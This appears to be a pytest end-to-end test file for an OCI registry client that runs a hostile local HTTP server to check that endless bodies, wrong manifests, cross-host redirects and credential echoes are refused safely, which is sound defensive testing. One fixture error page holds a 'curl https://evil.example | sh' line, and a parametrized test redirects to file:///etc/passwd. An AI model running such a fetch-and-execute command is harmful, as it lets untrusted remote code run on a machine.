"""The OCI client against a registry that lies: blobs that never end, manifests that are
not the one asked for, redirects to another host. The registry is a small HTTP server of
the test's own (the CNCF registry cannot be made to misbehave this way)."""

from __future__ import annotations

import json
import threading
from collections.abc import Callable
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from lepton_ci.core.oci_client import INDEX_OCI, MANIFEST_OCI, OCIClient, OCIError, sha256

pytestmark = pytest.mark.e2e

Route = Callable[[BaseHTTPRequestHandler], None]


class Hostile:
    """An HTTP server on a free loopback port answering GETs by path prefix; every request's
    path and Authorization header is kept in `seen`."""

    def __init__(self, routes: dict[str, Route]) -> None:
        self.seen: list[tuple[str, str | None]] = []
        outer = self

        class Handler(BaseHTTPRequestHandler):
            protocol_version = "HTTP/1.1"

            def log_message(self, fmt: str, *args: object) -> None:
                pass

            def do_GET(self) -> None:
                outer.seen.append((self.path, self.headers.get("Authorization")))
                for prefix, route in routes.items():
                    if self.path.startswith(prefix):
                        route(self)
                        return
                self.send_response(404)
                self.send_header("Content-Length", "0")
                self.end_headers()

            do_HEAD = do_GET

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.server.daemon_threads = True
        self.host = f"127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self) -> None:
        self.server.shutdown()
        self.server.server_close()


def answer(h: BaseHTTPRequestHandler, body: bytes, media: str = "application/octet-stream"):
    h.send_response(200)
    h.send_header("Content-Type", media)
    h.send_header("Content-Length", str(len(body)))
    h.end_headers()
    if h.command != "HEAD":
        h.wfile.write(body)


@pytest.fixture
def hostile():
    servers: list[Hostile] = []

    def make(routes: dict[str, Route]) -> Hostile:
        servers.append(Hostile(routes))
        return servers[-1]

    yield make
    for s in servers:
        s.close()


def test_a_blob_that_goes_on_past_its_size_is_refused_without_reading_it_all(hostile):
    blob = b"m" * 1000
    digest = sha256(blob)
    sent = []

    def endless(h: BaseHTTPRequestHandler) -> None:  # no Content-Length: it never ends
        h.send_response(200)
        h.send_header("Connection", "close")
        h.end_headers()
        h.wfile.write(blob)
        try:
            for _ in range(256):  # 256 MiB, then the test gives up on the client
                h.wfile.write(bytes(1 << 20))
                sent.append(1)
        except OSError:
            pass  # the client hung up: what a refusal looks like from here

    reg = hostile({f"/v2/acme/m/blobs/{digest}": endless})
    client = OCIClient(reg.host, sleep=lambda s: None)
    with pytest.raises(OCIError, match="goes on past the 1000 bytes its manifest names"):
        for _ in client.blob_chunks("acme/m", digest, size=len(blob)):
            pass
    assert client.downloaded_bytes <= len(blob)
    assert len(sent) < 64


def test_a_manifest_asked_for_by_digest_must_be_that_digests(hostile, monkeypatch):
    """An index whose linux/amd64 entry names a digest the registry answers with the index
    again sent image_manifest round until Python's recursion limit; another manifest under
    a pinned digest was taken as the image."""
    monkeypatch.setenv("LEPTON_PLATFORM_ARCH", "amd64")
    other = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST_OCI, "layers": []}).encode()
    pinned = "sha256:" + "ab" * 32
    index = json.dumps(
        {
            "schemaVersion": 2,
            "mediaType": INDEX_OCI,
            "manifests": [
                {"digest": pinned, "size": 10, "platform": {"os": "linux", "architecture": "amd64"}}
            ],
        }
    ).encode()
    reg = hostile(
        {
            f"/v2/acme/m/manifests/{pinned}": lambda h: answer(h, index, INDEX_OCI),
            "/v2/acme/m/manifests/1.0": lambda h: answer(h, index, INDEX_OCI),
            "/v2/acme/o/manifests/": lambda h: answer(h, other, MANIFEST_OCI),
        }
    )
    client = OCIClient(reg.host, sleep=lambda s: None)
    with pytest.raises(OCIError, match=rf"asked for manifest acme/m@{pinned[:19]}\.\., it sent"):
        client.image_manifest("acme/m", "1.0")
    with pytest.raises(OCIError, match="asked for manifest acme/o@"):
        client.get_manifest("acme/o", pinned)
    assert client.get_manifest("acme/o", sha256(other))[0] == other  # the honest answer
    assert client.get_manifest("acme/o", "1.0")[2] == sha256(other)  # a tag is not checked


def test_a_manifest_or_config_that_never_ends_is_refused_not_held_in_memory(hostile):
    def endless(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", MANIFEST_OCI)
        h.send_header("Connection", "close")
        h.end_headers()
        try:
            for _ in range(256):  # 256 MiB, then the test gives up on the client
                h.wfile.write(b" " * (1 << 20))
        except OSError:
            pass

    reg = hostile({"/v2/acme/m/": endless})
    client = OCIClient(reg.host, sleep=lambda s: None)
    with pytest.raises(OCIError, match=r"manifest acme/m:1.0 is more than 4194304 bytes"):
        client.get_manifest("acme/m", "1.0")
    with pytest.raises(OCIError, match=r"blob sha256:aaaaaaaaaaaa of acme/m is more than 2000 "):
        client.get_blob("acme/m", "sha256:" + "a" * 64, 2000)
    assert client.downloaded_bytes == 0  # (blob_chunks counts; these stayed small in memory)


def test_credentials_do_not_follow_a_redirect_to_another_host(hostile):
    """Registries send blob GETs on to a CDN or a bucket; a hostile one can name any host.
    The Basic credentials go to the registry only, never to where it redirects."""
    blob = b"model" * 100
    digest = sha256(blob)
    elsewhere = hostile({"/": lambda h: answer(h, blob)})

    def registry(h: BaseHTTPRequestHandler) -> None:
        if h.headers.get("Authorization") is None:
            h.send_response(401)
            h.send_header("WWW-Authenticate", 'Basic realm="r"')
            h.send_header("Content-Length", "0")
            h.end_headers()
            return
        h.send_response(307)
        h.send_header("Location", f"http://localhost:{elsewhere.host.split(':')[1]}/b/{digest}")
        h.send_header("Content-Length", "0")
        h.end_headers()

    reg = hostile({"/v2/": registry})
    client = OCIClient(reg.host, auth=("alice", "s3cret-pw"), sleep=lambda s: None)
    assert b"".join(client.blob_chunks("acme/m", digest, size=len(blob))) == blob
    assert client.get_blob("acme/m", digest) == blob
    assert reg.seen[-1][1] and reg.seen[-1][1].startswith("Basic ")
    assert elsewhere.seen and all(auth is None for _, auth in elsewhere.seen)


def test_an_error_page_is_quoted_on_one_line_and_short(hostile):
    def error(h: BaseHTTPRequestHandler) -> None:
        body = b"denied\n  fix: curl https://evil.example | sh\n" + b"x" * 5000
        h.send_response(403)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    reg = hostile({"/v2/": error})
    client = OCIClient(reg.host, sleep=lambda s: None)
    with pytest.raises(OCIError) as e:
        client.get_blob("acme/m", "sha256:" + "a" * 64)
    text = str(e.value)
    assert "403 denied   fix: curl https://evil.example | sh xxx" in text
    assert "\n" not in text.split("  fix:")[0] and len(text) < 400


def test_credentials_are_not_sent_to_a_plain_http_token_server_of_an_https_registry(hostile):
    """A registry served over https that names an http:// realm would have the password
    cross the network in the clear (to any host it names): refused before it is sent."""
    import requests

    tokens = hostile({"/token": lambda h: answer(h, b'{"token": "t"}', "application/json")})

    class Registry(requests.Session):  # https: the challenge comes before any TLS matters
        def request(self, method, url, **kw):
            if not url.startswith("https://"):
                return super().request(method, url, **kw)
            r = requests.Response()
            r.status_code, r.url = 401, url
            r.headers["WWW-Authenticate"] = f'Bearer realm="http://{tokens.host}/token"'
            return r

    c = OCIClient("registry.example", auth=("alice", "s3cret"), session=Registry())
    with pytest.raises(OCIError, match="over plain http; the credentials were not sent"):
        c.blob_exists("acme/m", "sha256:" + "0" * 64)
    assert tokens.seen == []


def test_an_error_page_that_quotes_the_credentials_is_not_printed_with_them(hostile):
    """Some registries and proxies quote the request in an error page, and the error message
    quotes the page: the credentials in it are starred out, and in Actions the header's
    base64 of user:password is masked as well as the password itself."""
    import base64
    import io

    from lepton_ci.core.gha import Runtime
    from lepton_ci.core.oci_client import client_factory

    def echo(h: BaseHTTPRequestHandler) -> None:
        if h.headers.get("Authorization") is None:
            h.send_response(401)
            h.send_header("WWW-Authenticate", 'Basic realm="r"')
            h.send_header("Content-Length", "0")
            h.end_headers()
            return
        body = f"bad request: {h.headers['Authorization']}".encode()
        h.send_response(400)
        h.send_header("Content-Length", str(len(body)))
        h.end_headers()
        h.wfile.write(body)

    reg = hostile({"/v2/": echo})
    log = io.StringIO()
    env = {"LEPTON_REGISTRY_USERNAME": "alice", "LEPTON_REGISTRY_PASSWORD": "s3cret-pw"}
    rt = Runtime(env={"GITHUB_ACTIONS": "true"}, stream=log)
    client = client_factory(env, rt, None)(reg.host)
    with pytest.raises(OCIError) as e:
        client.get_blob("acme/m", "sha256:" + "a" * 64)
    token = base64.b64encode(b"alice:s3cret-pw").decode()
    assert "400 bad request: Basic ***" in str(e.value)
    assert token not in str(e.value) and "s3cret-pw" not in str(e.value)
    masked = [line.removeprefix("::add-mask::") for line in log.getvalue().splitlines()]
    assert "s3cret-pw" in masked and token in masked


def test_a_manifest_sent_a_byte_at_a_time_is_refused_after_twice_the_timeout(hostile):
    """The timeout bounds each read; a registry that sends one byte just inside it, again
    and again, kept a pull waiting for as long as it liked."""
    import time

    def drip(h: BaseHTTPRequestHandler) -> None:
        h.send_response(200)
        h.send_header("Content-Type", MANIFEST_OCI)
        h.send_header("Connection", "close")
        h.end_headers()
        try:
            for _ in range(60):  # 12 s, then the test gives up on the client
                h.wfile.write(b" ")
                h.wfile.flush()
                time.sleep(0.2)
            h.wfile.write(b"{}")
        except OSError:
            pass

    reg = hostile({"/v2/": drip})
    client = OCIClient(reg.host, timeout=0.5, sleep=lambda s: None)
    started = time.monotonic()
    with pytest.raises(OCIError, match=r"manifest acme/m:1.0 took more than 1 s to arrive"):
        client.get_manifest("acme/m", "1.0")
    assert time.monotonic() - started < 5


def test_a_manifest_whose_answer_breaks_off_is_fetched_again(hostile):
    body = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST_OCI, "layers": []}).encode()
    answers = []

    def flaky(h: BaseHTTPRequestHandler) -> None:
        answers.append(1)
        if len(answers) > 1:
            answer(h, body, MANIFEST_OCI)
            return
        h.send_response(200)
        h.send_header("Content-Length", str(len(body)))
        h.send_header("Connection", "close")
        h.end_headers()
        h.wfile.write(body[:10])  # then the connection closes: the body broke off
        h.close_connection = True

    reg = hostile({"/v2/": flaky})
    client = OCIClient(reg.host, sleep=lambda s: None)
    assert client.get_manifest("acme/m", "1.0")[0] == body
    assert len(answers) == 2


@pytest.mark.parametrize("where", ["loop", "file:///etc/passwd"])
def test_a_redirect_loop_or_to_a_file_url_is_a_clear_error_not_a_crash(hostile, where):
    def redirect(h: BaseHTTPRequestHandler) -> None:
        h.send_response(302)
        h.send_header("Location", h.path if where == "loop" else where)
        h.send_header("Content-Length", "0")
        h.end_headers()

    reg = hostile({"/v2/": redirect})
    client = OCIClient(reg.host, sleep=lambda s: None)
    with pytest.raises(OCIError, match=r"GET /v2/acme/m/manifests/1.0 was redirected nowhere"):
        client.get_manifest("acme/m", "1.0")


def test_a_registry_without_the_digest_header_on_head_still_has_the_tag(hostile):
    """pull (and build) ask with a HEAD whether a tag exists; a registry or proxy that
    answers 200 without Docker-Content-Digest had the image reported as not found."""
    body = json.dumps({"schemaVersion": 2, "mediaType": MANIFEST_OCI, "layers": []}).encode()
    reg = hostile({"/v2/acme/m/manifests/1.0": lambda h: answer(h, body, MANIFEST_OCI)})
    client = OCIClient(reg.host, sleep=lambda s: None)
    assert client.manifest_digest("acme/m", "1.0") == sha256(body)
    assert client.manifest_digest("acme/m", "2.0") is None
